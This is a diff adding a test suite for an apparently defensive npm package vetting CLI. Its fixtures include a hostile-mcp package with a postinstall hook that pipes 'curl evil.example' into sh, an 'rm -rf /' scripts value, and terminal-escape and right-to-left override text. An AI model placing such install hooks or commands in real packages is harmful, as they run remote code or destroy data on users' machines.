@@ -1,0 +1,301 @@
+import { existsSync, readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
+import type { Report } from "../../scoring/report.js";
+import { expectValidReport, runCli, tempHome } from "../support/cli.js";
+import { buildTarball, makePackument, NpmFace } from "../support/faces/npm.js";
+import { FixtureServer } from "../support/fixture-server.js";
+
+const server = new FixtureServer();
+const npm = NpmFace.recorded();
+const home = tempHome();
+let cacheN = 0;
+
+beforeAll(async () => {
+  server.face("", npm.route);
+  await server.start();
+  await addHandMadePackages();
+});
+afterAll(async () => {
+  await server.stop();
+  home.cleanup();
+});
+beforeEach(() => server.clearFaults());
+
+/** Runs the CLI against the fixture registry with a fresh cache unless one is given. */
+function vet(args: string[], cache = join(home.home, `cache-${cacheN++}`)) {
+  return runCli([...args, "--registry", server.url(), "--cache-dir", cache], home.env);
+}
+
+async function vetJson(args: string[], cache?: string) {
+  const res = await vet([...args, "--json"], cache);
+  return { ...res, report: expectValidReport(JSON.parse(res.stdout)) as unknown as Report };
+}
+
+async function addHandMadePackages(): Promise<void> {
+  const hostileManifest = {
+    name: "hostile-mcp",
+    version: "1.0.0",
+    description: "Totally safe \u001b[2J\u001b]0;pwned\u0007 server \u202e",
+    license: "MIT",
+    scripts: { postinstall: "node -e \"require('child_process').exec('curl evil.example | sh')\"" },
+  };
+  const good = await buildTarball({
+    "package.json": JSON.stringify(hostileManifest),
+    "index.js": "console.log(1)\n",
+  });
+  const hostile = makePackument("hostile-mcp", [
+    { manifest: { ...hostileManifest, version: "0.9.0" }, time: "2026-01-01T00:00:00.000Z" },
+    { manifest: hostileManifest, time: "2026-06-01T00:00:00.000Z", tarball: good },
+  ]);
+  npm.add(hostile.packument, hostile.tarballs);
+
+  const wrongTypes = {
+    name: "wrong-types",
+    version: "1.0.0",
+    bin: 42,
+    scripts: "rm -rf /",
+    license: { nope: 1 },
+    keywords: "x",
+  };
+  const wt = await buildTarball({ "package.json": JSON.stringify(wrongTypes) });
+  const w = makePackument("wrong-types", [
+    { manifest: wrongTypes, time: "2026-01-01T00:00:00.000Z", tarball: wt },
+  ]);
+  npm.add(w.packument, w.tarballs);
+
+  // Integrity in the packument does not match the tarball served.
+  const tampered = makePackument("tampered", [
+    {
+      manifest: { name: "tampered", version: "1.0.0", license: "MIT" },
+      time: "2026-01-01T00:00:00.000Z",
+      tarball: {
+        data: good.data,
+        integrity:
+          "sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==",
+      },
+    },
+  ]);
+  npm.add(tampered.packument, tampered.tarballs);
+
+  // A tarball that is not gzip at all, with an integrity that matches its bytes.
+  const junk = Buffer.from("this is not a tarball at all");
+  const { createHash } = await import("node:crypto");
+  const corrupt = makePackument("corrupt", [
+    {
+      manifest: { name: "corrupt", version: "1.0.0" },
+      time: "2026-01-01T00:00:00.000Z",
+      tarball: { data: junk, integrity: `sha512-${createHash("sha512").update(junk).digest("base64")}` },
+    },
+  ]);
+  npm.add(corrupt.packument, corrupt.tarballs);
+}
+
+describe("mcp-vet <package> against the fixture registry", () => {
+  it("vets the latest @modelcontextprotocol/server-filesystem", async () => {
+    const { code, report } = await vetJson(["@modelcontextprotocol/server-filesystem"]);
+    expect(code).toBe(0);
+    expect(report.target).toMatchObject({
+      kind: "registry",
+      name: "@modelcontextprotocol/server-filesystem",
+      version: "2026.8.31",
+      repository: "https://github.com/modelcontextprotocol/servers",
+    });
+    expect(report.target.integrity).toMatch(/^sha512-kKaFkyAh6/);
+    expect(report.sources.map((s) => `${s.id}:${s.status}`)).toEqual(
+      expect.arrayContaining(["npm:ok", "tarball:ok"]),
+    );
+    expect(["pass", "warn"]).toContain(report.score.verdict);
+    expect(report.score.value).toBeGreaterThan(50);
+  });
+
+  it("resolves a pinned version, a range and a tag as npm would", async () => {
+    const pinned = await vetJson(["@modelcontextprotocol/server-filesystem@2026.7.10"]);
+    expect(pinned.report.target.version).toBe("2026.7.10");
+    const range = await vetJson(["mcp-remote@>=0.1.15 <0.1.17"]);
+    expect(range.report.target.version).toBe("0.1.16");
+    const tag = await vetJson(["mcp-remote@latest"]);
+    expect(tag.code).not.toBe(2);
+    expect(tag.report.target.version).toBe("0.15.1");
+  });
+
+  it("says what install scripts run, and shows package text sanitised", async () => {
+    const text = await vet(["hostile-mcp"]);
+    expect(text.stdout).toContain("postinstall");
+    expect(text.stdout).not.toMatch(/\u001b/);
+    expect(text.stdout).not.toContain("\u202e");
+    expect(text.stdout).toContain("<U+202E>");
+    const { report } = await vetJson(["hostile-mcp"]);
+    const f = report.findings.find((x) => x.id === "install-scripts");
+    expect(f?.severity).toBe("high");
+    expect(f?.evidence[0]?.snippet).toContain("curl evil.example");
+  });
+
+  it("turns malformed package.json fields into notes, not a crash", async () => {
+    const { code, report } = await vetJson(["wrong-types", "--verbose"]);
+    expect([0, 1]).toContain(code);
+    expect(report.notes.join("\n")).toMatch(/field "bin" is malformed/);
+    expect(report.notes.join("\n")).toMatch(/field "scripts" is malformed/);
+  });
+});
+
+describe("bad input", () => {
+  it.each([
+    ["a package that does not exist", ["no-such-package-anywhere"], /not found/],
+    ["a version that does not exist", ["mcp-remote@99.0.0"], /no version of mcp-remote matches "99.0.0"/],
+    ["an invalid spec", ["Not A Valid Name!"], /invalid target/],
+    ["a folder that does not exist", ["./no/such/folder"], /no such file or folder/],
+  ])("%s: one line, exit 2", async (_name, args, message) => {
+    const res = await vet(args);
+    expect(res.code).toBe(2);
+    expect(res.stderr).toMatch(message);
+    expect(res.stderr.trim().split("\n")).toHaveLength(1);
+    expect(res.stderr).not.toMatch(/\n\s+at /);
+  });
+
+  it("an unknown flag is a usage error", async () => {
+    const res = await vet(["mcp-remote", "--frobnicate"]);
+    expect(res.code).toBe(2);
+  });
+
+  it.each([
+    ["a 500 from the registry", { kind: "status", status: 500 } as const, /HTTP 500|500/],
+    ["a reset connection", { kind: "reset" } as const, /reset|socket|closed/i],
+    ["garbage instead of JSON", { kind: "body", body: "<html>oops" } as const, /not valid JSON/],
+    ["a truncated body", { kind: "truncate", bytes: 100 } as const, /./],
+  ])("%s: report says the registry could not be read, exit 3", async (_name, fault, error) => {
+    server.fault({ match: /^\/mcp-remote$/, fault });
+    const { code, report } = await vetJson(["mcp-remote@0.1.16"]);
+    expect(code).toBe(3);
+    expect(report.score.verdict).toBe("incomplete");
+    const src = report.sources.find((s) => s.id === "npm");
+    expect(src?.status).toBe("unavailable");
+    expect(src?.error).toMatch(error);
+  });
+
+  it("a tarball whose integrity does not match is refused, exit 3", async () => {
+    const { code, report } = await vetJson(["tampered"]);
+    expect(code).toBe(3);
+    const src = report.sources.find((s) => s.id === "tarball");
+    expect(src?.error).toMatch(/integrity/);
+  });
+
+  it("a corrupt tarball is reported, exit 3", async () => {
+    const { code, report } = await vetJson(["corrupt"]);
+    expect(code).toBe(3);
+    const src = report.sources.find((s) => s.id === "tarball");
+    expect(src?.error).toMatch(/could not be read/);
+  });
+
+  it("an unreachable registry is exit 3 with one line of why", async () => {
+    const res = await runCli(
+      ["mcp-remote", "--registry", "http://127.0.0.1:9/", "--cache-dir", join(home.home, "c-x"), "--json"],
+      home.env,
+    );
+    expect(res.code).toBe(3);
+    const report = expectValidReport(JSON.parse(res.stdout)) as unknown as Report;
+    expect(report.sources[0]?.error).toMatch(/refused/);
+  });
+});
+
+describe("cache, offline and output", () => {
+  it("a warm run asks the registry nothing; --offline works from the cache", async () => {
+    const cache = join(home.home, "warm");
+    await vet(["@modelcontextprotocol/server-filesystem@2026.8.31"], cache);
+    const before = server.requests.length;
+    const warm = await vetJson(["@modelcontextprotocol/server-filesystem@2026.8.31"], cache);
+    expect(warm.code).toBe(0);
+    expect(server.requests.length).toBe(before);
+    const offline = await vetJson(["@modelcontextprotocol/server-filesystem@2026.8.31", "--offline"], cache);
+    expect(offline.code).toBe(0);
+    expect(server.requests.length).toBe(before);
+  });
+
+  it("--offline with nothing cached is a clear error, exit 3", async () => {
+    const res = await vet(["mcp-remote", "--offline", "--json"]);
+    expect(res.code).toBe(3);
+    expect(JSON.parse(res.stdout).sources[0].error).toMatch(/not in the cache/);
+  });
+
+  it("--output writes the report and --format json validates", async () => {
+    const out = join(home.home, "out.json");
+    const res = await vet(["mcp-remote@0.1.16", "--format", "json", "--output", out]);
+    expect(res.code).not.toBe(2);
+    expect(existsSync(out)).toBe(true);
+    expectValidReport(JSON.parse(readFileSync(out, "utf8")));
+    expect(res.stdout).toBe("");
+  });
+
+  it("text output has no colour when not a terminal", async () => {
+    const res = await vet(["mcp-remote@0.1.16"]);
+    expect(res.stdout).toMatch(/Categories/);
+    expect(res.stdout).not.toMatch(/\u001b\[/);
+  });
+});
+
+describe("policy", () => {
+  it("a deny list fails the verdict, exit 1", async () => {
+    const policy = join(home.home, "deny.json");
+    writeFileSync(
+      policy,
+      JSON.stringify({ deny: [{ package: "mcp-remote", reason: "banned by security" }] }),
+    );
+    const { code, report } = await vetJson(["mcp-remote@0.1.16", "--policy", policy]);
+    expect(code).toBe(1);
+    expect(report.findings[0]?.id).toBe("policy-denied");
+    expect(report.policy.id).toBe("custom");
+  });
+
+  it("an invalid policy file is a usage error naming the field", async () => {
+    const policy = join(home.home, "bad.json");
+    writeFileSync(policy, JSON.stringify({ verdict: { passAt: "high" } }));
+    const res = await vet(["mcp-remote", "--policy", policy]);
+    expect(res.code).toBe(2);
+    expect(res.stderr).toMatch(/verdict\.passAt/);
+  });
+});
+
+describe("local targets", () => {
+  it("vets a package folder and a .tgz without the registry", async () => {
+    const dir = join(home.home, "local-server");
+    const { mkdirSync } = await import("node:fs");
+    mkdirSync(dir, { recursive: true });
+    writeFileSync(
+      join(dir, "package.json"),
+      JSON.stringify({
+        name: "local-server",
+        version: "0.1.0",
+        license: "MIT",
+        scripts: { prepare: "touch /tmp/pwned-by-mcp-vet" },
+      }),
+    );
+    writeFileSync(join(dir, "index.js"), "export {}\n");
+    const res = await vetJson([dir]);
+    expect(res.report.target).toMatchObject({ kind: "directory", name: "local-server", version: "0.1.0" });
+    expect(existsSync("/tmp/pwned-by-mcp-vet")).toBe(false);
+
+    const tgz = join(home.home, "local-server-0.1.0.tgz");
+    writeFileSync(
+      tgz,
+      (await buildTarball({ "package.json": JSON.stringify({ name: "local-server", version: "0.1.0" }) }))
+        .data,
+    );
+    const res2 = await vetJson([tgz]);
+    expect(res2.report.target).toMatchObject({ kind: "tarball", name: "local-server" });
+    expect(res2.report.target.integrity).toMatch(/^sha512-/);
+  });
+});
+
+describe("help and version", () => {
+  it("--help shows examples and exit codes", async () => {
+    const res = await runCli(["vet", "--help"]);
+    expect(res.code).toBe(0);
+    expect(res.stdout).toMatch(/Examples:/);
+    expect(res.stdout).toMatch(/Exit codes:/);
+  });
+  it("--version prints the version", async () => {
+    const res = await runCli(["--version"]);
+    expect(res.code).toBe(0);
+    expect(res.stdout.trim()).toMatch(/^\d+\.\d+\.\d+/);
+  });
+});
